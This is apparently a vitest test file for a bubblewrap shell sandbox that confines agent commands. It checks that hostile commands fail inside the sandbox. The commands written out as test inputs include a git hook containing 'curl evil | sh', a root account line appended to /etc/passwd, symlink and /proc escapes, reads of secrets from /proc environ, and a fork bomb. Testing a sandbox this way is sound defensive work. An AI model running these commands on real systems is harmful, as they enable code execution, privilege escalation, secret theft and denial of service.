/**
 * The shell primitive under a workspace-write sandbox, attacked the way a hostile command would:
 * real bubblewrap, real files. The workspace lives under /var/tmp so that "outside" is the real,
 * read-only host filesystem rather than the sandbox's private /tmp.
 */
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { EffectRecord } from "./effects.js";
import { createKernel, type KernelOptions } from "./kernel.js";
import { SandboxUnavailableError, type ShellSandboxOptions } from "./kernel-shell.js";

const base = realpathSync(mkdtempSync("/var/tmp/warden-sbx-"));
const ws = join(base, "ws");
const outside = join(base, "outside");
const home = process.env.HOME ?? homedir();
const marker = `warden-sbx-${process.pid}-${Date.now()}`;
let effects: EffectRecord[];

const SANDBOX: ShellSandboxOptions = { profile: "workspace-write", available: true, home };
const ENV = { PATH: process.env.PATH, HOME: home, API_KEY: "sk-live-123456", GITHUB_TOKEN: "ghp_abcdef", LANG: "C" };

function kernel(extra: Partial<KernelOptions> = {}) {
	return createKernel({
		workspace: ws,
		callId: "call-1",
		signal: new AbortController().signal,
		recordEffect: async (e) => {
			effects.push(e);
		},
		env: ENV,
		sandbox: SANDBOX,
		...extra,
	});
}

const exec = (command: string, opts: { timeoutMs?: number; maxOutputBytes?: number } = {}, extra: Partial<KernelOptions> = {}) =>
	kernel(extra).shell.exec(command, { timeoutMs: opts.timeoutMs ?? 10_000, maxOutputBytes: opts.maxOutputBytes ?? 100_000 });

const sandboxOf = (e: EffectRecord | undefined) => (e?.data as { sandbox?: { profile: string; network: boolean; denied?: string[] } } | undefined)?.sandbox;
const sha = (path: string) => createHash("sha256").update(readFileSync(path)).digest("hex");

/** Processes on the host whose command line holds `text`. */
function processesWith(text: string): number[] {
	const found: number[] = [];
	for (const pid of readdirSync("/proc")) {
		if (!/^\d+$/.test(pid)) continue;
		try {
			if (readFileSync(`/proc/${pid}/cmdline`, "utf8").includes(text)) found.push(Number(pid));
		} catch {
			// Gone already.
		}
	}
	return found;
}

beforeAll(() => {
	mkdirSync(join(ws, ".git", "hooks"), { recursive: true });
	writeFileSync(join(ws, ".git", "config"), "[core]\n\tbare = false\n");
	mkdirSync(outside);
	writeFileSync(join(outside, "target.txt"), "original\n");
});
afterAll(() => rmSync(base, { recursive: true, force: true }));
beforeEach(() => {
	effects = [];
});

describe("shell under the workspace-write sandbox", () => {
	it("writes inside the workspace and records the sandbox on the effect", async () => {
		const out = await exec("echo hello > inside.txt && cat inside.txt");
		expect(out.exitCode).toBe(0);
		expect(readFileSync(join(ws, "inside.txt"), "utf8")).toBe("hello\n");
		expect(sandboxOf(effects[0])).toEqual({ profile: "workspace-write", network: false });
	});

	it("cannot write next to the workspace, and the model is told", async () => {
		const out = await exec("echo x > ../outside.txt");
		expect(out.exitCode).not.toBe(0);
		expect(existsSync(join(base, "outside.txt"))).toBe(false);
		expect(sandboxOf(effects[0])?.denied).toContain("write outside the workspace");
		expect(out.stderr).toMatch(/\[warden sandbox\] denied: write outside the workspace\n$/);
	});

	it("cannot write to $HOME, directly or through /tmp/..", async () => {
		const out = await exec(`echo x > "$HOME/${marker}"; echo x > "/tmp/../$HOME/${marker}-2"; echo x > ~/${marker}-3`);
		expect(out.exitCode).not.toBe(0);
		for (const suffix of ["", "-2", "-3"]) expect(existsSync(join(home, `${marker}${suffix}`))).toBe(false);
	});

	it("cannot plant a git hook or change git config", async () => {
		const config = readFileSync(join(ws, ".git", "config"), "utf8");
		const out = await exec(
			"echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo '[core] hooksPath = x' >> .git/config; rm -f .git/config; mv .git/hooks .git/h2; git config core.hooksPath /tmp/x",
		);
		expect(out.exitCode).not.toBe(0);
		expect(existsSync(join(ws, ".git", "hooks", "pre-commit"))).toBe(false);
		expect(existsSync(join(ws, ".git", "h2"))).toBe(false);
		expect(readFileSync(join(ws, ".git", "config"), "utf8")).toBe(config);
	});

	it("cannot write through a symlink it creates to a file outside", async () => {
		const out = await exec(`ln -s ${join(outside, "target.txt")} link && echo pwned > link; ln -s ${outside} dirlink && echo pwned > dirlink/new.txt`);
		expect(out.exitCode).not.toBe(0);
		expect(readFileSync(join(outside, "target.txt"), "utf8")).toBe("original\n");
		expect(existsSync(join(outside, "new.txt"))).toBe(false);
	});

	it("cannot hard-link an outside file into the workspace to change it", async () => {
		const before = sha("/etc/passwd");
		await exec("ln /etc/passwd hard; echo 'evil::0:0::/:/bin/sh' >> hard; ln ../outside/target.txt hard2; echo pwned >> hard2");
		expect(sha("/etc/passwd")).toBe(before);
		expect(readFileSync(join(outside, "target.txt"), "utf8")).toBe("original\n");
	});

	it("cannot write through /proc/self/root", async () => {
		const out = await exec(`echo pwned > /proc/self/root${join(outside, "target.txt")}; echo x > /proc/self/root${base}/${marker}`);
		expect(out.exitCode).not.toBe(0);
		expect(readFileSync(join(outside, "target.txt"), "utf8")).toBe("original\n");
		expect(existsSync(join(base, marker))).toBe(false);
	});

	it("shows no secret variable to the command, not even through /proc", async () => {
		const out = await exec("env; cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n'");
		expect(out.stdout).toContain("LANG=C");
		expect(out.stdout).not.toMatch(/API_KEY|GITHUB_TOKEN|sk-live|ghp_/);
	});

	it("runs as uid 1000 with no capabilities", async () => {
		const out = await exec("id -u; grep CapEff /proc/self/status");
		expect(out.stdout).toMatch(/^1000\nCapEff:\s+0+\n$/);
	});

	describe("without a network grant", () => {
		let server: Server;
		let hits = 0;
		beforeAll(async () => {
			server = createServer((_req, res) => {
				hits++;
				res.end("ok");
			});
			await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
		});
		afterAll(() => new Promise((resolve) => server.close(resolve)));

		it("curl cannot resolve or connect, and the effect says the network was denied", async () => {
			const port = (server.address() as AddressInfo).port;
			const out = await exec(`curl -sS --max-time 3 http://example.com/; curl -sS --max-time 3 http://127.0.0.1:${port}/`);
			expect(out.exitCode).not.toBe(0);
			expect(hits).toBe(0);
			expect(sandboxOf(effects[0])).toMatchObject({ network: false, denied: ["network"] });
			expect(out.stderr).toContain("[warden sandbox] denied: network");
		});

		it("node's fetch cannot reach out either", async () => {
			const out = await exec(`node -e 'fetch("http://example.com").then(() => console.log("reached"), (e) => { console.error(e.cause?.code ?? e.message); process.exit(1); })'`);
			expect(out.stdout).not.toContain("reached");
			expect(sandboxOf(effects[0])?.denied).toEqual(["network"]);
		});
	});

	it("kills a busy loop at the timeout, with nothing left running", async () => {
		const out = await exec(`yes ${marker}-yes > /dev/null`, { timeoutMs: 500 });
		expect(out.timedOut).toBe(true);
		await new Promise((r) => setTimeout(r, 300));
		expect(processesWith(`${marker}-yes`)).toEqual([]);
	});

	it("kills a fork bomb at the timeout, the whole process tree", async () => {
		const name = `bomb_${marker.replace(/-/g, "_")}`;
		// The shell stays to be killed at the timeout; the bomb's processes die with the sandbox's pid namespace.
		const out = await exec(`${name}(){ ${name}|${name}& };${name}; sleep 30`, { timeoutMs: 800 });
		expect(out.timedOut).toBe(true);
		// Thousands of processes take the kernel a moment to tear down (longer on a loaded machine); none may survive it.
		const deadline = Date.now() + 20_000;
		while (processesWith(name).length > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
		expect(processesWith(name)).toEqual([]);
	}, 60_000);

	it("caps huge output", async () => {
		const out = await exec("yes aaaaaaaa | head -c 50000000", { maxOutputBytes: 10_000 });
		expect(out.truncated).toBe(true);
		expect(out.stdout.length).toBe(10_000);
	});
});

describe("other profiles and no sandbox", () => {
	it("the read-only profile lets nothing be written, even in the workspace", async () => {
		const out = await exec("echo x > ro.txt", {}, { sandbox: { profile: "read-only", available: true } });
		expect(out.exitCode).not.toBe(0);
		expect(existsSync(join(ws, "ro.txt"))).toBe(false);
		expect(sandboxOf(effects[0])).toEqual({ profile: "read-only", network: false, denied: ["write (the read-only sandbox allows none)"] });
	});

	it("refuses to run when no sandbox works and no human approved the call", async () => {
		const run = exec(`touch ${join(outside, "unsandboxed")}`, {}, { sandbox: { profile: "workspace-write", available: false, reason: "bwrap is missing" } });
		await expect(run).rejects.toBeInstanceOf(SandboxUnavailableError);
		await expect(exec("true", {}, { sandbox: { profile: "workspace-write", available: false, reason: "bwrap is missing" } })).rejects.toThrow(/^no sandbox: bwrap is missing/);
		expect(existsSync(join(outside, "unsandboxed"))).toBe(false);
		expect(effects).toEqual([]);
	});

	it("runs an approved call unconfined where no sandbox works, and says so on the effect", async () => {
		const out = await exec(`touch ${join(outside, "approved")}`, {}, { sandbox: { profile: "workspace-write", available: false, reason: "bwrap is missing" }, approved: true });
		expect(out.exitCode).toBe(0);
		expect(existsSync(join(outside, "approved"))).toBe(true);
		expect(sandboxOf(effects[0])).toMatchObject({ profile: "none", unsandboxed: "approved without a sandbox (bwrap is missing)" });
	});

	it("full-access (profile none) runs unconfined by the host's choice", async () => {
		const out = await exec(`touch ${join(outside, "full")}`, {}, { sandbox: { profile: "none", available: true } });
		expect(out.exitCode).toBe(0);
		expect(existsSync(join(outside, "full"))).toBe(true);
		expect(sandboxOf(effects[0])).toEqual({ profile: "none", network: true });
	});
});
